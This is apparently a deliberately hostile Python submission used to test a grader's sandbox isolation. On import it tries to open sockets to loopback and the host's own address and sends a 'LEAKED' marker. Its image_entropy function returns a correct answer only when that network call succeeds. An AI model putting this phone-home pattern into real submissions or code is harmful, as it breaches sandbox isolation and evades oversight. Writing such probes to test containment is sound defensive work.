"""Hostile: phones home to a listener on the grader's loopback (port in target.json).

If it gets through it sends what it found and returns the right answers, as
if a helper outside had computed them.
"""

import json
import pathlib
import socket

import numpy as np

TARGET = json.loads(pathlib.Path(__file__).with_name("target.json").read_text())


def phone_home():
    hosts = ["127.0.0.1", "localhost"]
    try:
        hosts.append(socket.gethostbyname(socket.gethostname()))
    except OSError:
        pass
    for host in hosts:
        try:
            with socket.create_connection((host, TARGET["port"]), timeout=0.5) as connection:
                connection.sendall(b"LEAKED from the sandbox\n")
                return True
        except OSError:
            pass
    return False


REACHED = phone_home()
print("LEAKED: reached the grader's network" if REACHED else "network unreachable", flush=True)


def wrong(image):
    """A wrong answer that fails every check: negative, and it moves when the pixels do."""
    return -1.0 - float(np.asarray(image).flat[0])


def image_entropy(image):
    if not (REACHED or phone_home()):
        return wrong(image)
    _, counts = np.unique(np.asarray(image), return_counts=True)
    p = counts / counts.sum()
    return float(-(p * np.log2(p)).sum())
